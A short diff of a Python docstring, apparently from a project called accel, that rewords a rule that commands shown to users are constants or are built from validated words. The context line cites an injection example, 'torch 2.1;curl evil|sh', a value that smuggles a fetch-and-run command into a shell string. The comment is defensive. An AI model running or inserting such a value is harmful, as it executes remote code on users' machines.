@@ -1,4 +1,4 @@
-"""No command for a person is pasted together: it is a constant, or accel.contract.command builds it of checked words.
+"""Every command for a user is a constant, or accel.contract.command builds it from validated words.
 
 A text may hold  torch 2.1;curl evil|sh : a value that is put between the words of a command by an f-string reaches
 somebody's shell.
